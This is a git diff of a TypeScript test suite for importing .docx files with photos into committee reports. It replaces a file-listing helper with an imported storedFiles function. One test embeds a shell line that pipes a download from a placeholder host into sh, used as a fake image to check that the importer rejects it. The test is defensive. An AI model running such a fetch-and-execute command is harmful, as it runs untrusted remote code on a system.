@@ -21,6 +21,7 @@ import { toReportFields } from "@/lib/reports/rules/fields";
 import { findingKey, proofread } from "@/lib/reports/rules/proofreading";
 import { freshDatabase } from "../support/test-database";
 import { bombPng, photoJpeg } from "../support/images";
+import { storedFiles } from "../support/files";
 import { createWorld, loadCommands, type Commands, type People } from "../support/workflow-fixture";
 
 let db: Db;
@@ -72,18 +73,6 @@ async function photoDocx(photos: Array<{ data: Buffer; type: "jpg" | "png"; capt
 
 const figuresOf = (doc: unknown) => (((doc as TiptapDoc).content ?? []) as TiptapDoc[]).filter((node) => node.type === "figure").map((node) => node.attrs ?? {});
 
-async function filesIn(dir: string): Promise<string[]> {
-  const found: string[] = [];
-  const walk = async (at: string) => {
-    for (const entry of await fs.readdir(at, { withFileTypes: true }).catch(() => [])) {
-      if (entry.isDirectory()) await walk(path.join(at, entry.name));
-      else found.push(path.relative(dir, path.join(at, entry.name)));
-    }
-  };
-  await walk(dir);
-  return found.sort();
-}
-
 function texts(node: TiptapDoc): string {
   const figure = node.type === "figure" ? `${node.attrs?.caption ?? ""}${node.attrs?.credit ?? ""}` : "";
   return (node.text ?? "") + figure + (node.content ?? []).map(texts).join("");
@@ -102,11 +91,11 @@ describe("a .docx with photos, imported into a committee", () => {
     ]);
 
     // The preview checks the photos like uploads and stores none of them.
-    const before = { media: await db.media.count(), files: (await filesIn(mediaDir)).length };
+    const before = { media: await db.media.count(), files: (await storedFiles(mediaDir)).length };
     const preview = await importing.readImport(bytes, { fileName: "志愿服务.docx", storeImage: previewImageCheck() });
     expect(preview.figures).toEqual({ total: 2, waiting: 1 });
     expect(preview.warnings.join("\n")).toMatch(/第 2 张图片未保存：图片尺寸过大（30000×30000 像素）/u);
-    expect({ media: await db.media.count(), files: (await filesIn(mediaDir)).length }).toEqual(before);
+    expect({ media: await db.media.count(), files: (await storedFiles(mediaDir)).length }).toEqual(before);
 
     const created = await importing.importFileAsReport({ actor: people.xmEditor, committeeId: xiamenId, bytes, fileName: "志愿服务.docx", store });
     reportId = created.id;
@@ -127,7 +116,7 @@ describe("a .docx with photos, imported into a committee", () => {
     // Every rendition is in the store: 480, 960 and 1600 wide, each AVIF, WebP and JPEG.
     const keys = parseVariants(rows[0]!.variants).map((variant) => variant.storageKey).sort();
     expect(keys).toHaveLength(9);
-    expect(await filesIn(mediaDir)).toEqual(keys);
+    expect(await storedFiles(mediaDir)).toEqual(keys);
     // The stored draft already renders the photo as <picture>.
     expect(report.html).toContain(`data-media-id="${mediaId}"><picture>`);
   });
@@ -168,7 +157,7 @@ describe("a .docx with photos, imported into a committee", () => {
   });
 
   it("refuses a .docx whose image is a script, storing none of its photos", async () => {
-    const before = { media: await db.media.count(), reports: await db.report.count(), files: (await filesIn(mediaDir)).length };
+    const before = { media: await db.media.count(), reports: await db.report.count(), files: (await storedFiles(mediaDir)).length };
     const script = Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n".repeat(20));
     const bytes = await photoDocx([
       { data: await photoJpeg(640, 480, { seed: 8 }), type: "jpg", caption: "第一张照片" },
@@ -178,7 +167,7 @@ describe("a .docx with photos, imported into a committee", () => {
     expect(error).toBeInstanceOf(CommandError);
     expect((error as CommandError).status).toBe(422);
     expect((error as CommandError).message).toContain("不是图片文件");
-    expect({ media: await db.media.count(), reports: await db.report.count(), files: (await filesIn(mediaDir)).length }).toEqual(before);
+    expect({ media: await db.media.count(), reports: await db.report.count(), files: (await storedFiles(mediaDir)).length }).toEqual(before);
   });
 
   it("stores nothing for someone outside the committee", async () => {
@@ -214,7 +203,7 @@ describe("npm run import", () => {
       const [figure] = figuresOf(report.content);
       const row = await db.media.findUniqueOrThrow({ where: { id: figure!.mediaId as string } });
       expect(row).toMatchObject({ committeeId: xiamenId, caption: "命令行导入的照片。", credit: CREDIT });
-      expect((await filesIn(media)).sort()).toEqual(parseVariants(row.variants).map((variant) => variant.storageKey).sort());
+      expect((await storedFiles(media)).sort()).toEqual(parseVariants(row.variants).map((variant) => variant.storageKey).sort());
     } finally {
       await fs.rm(dir, { recursive: true, force: true });
     }
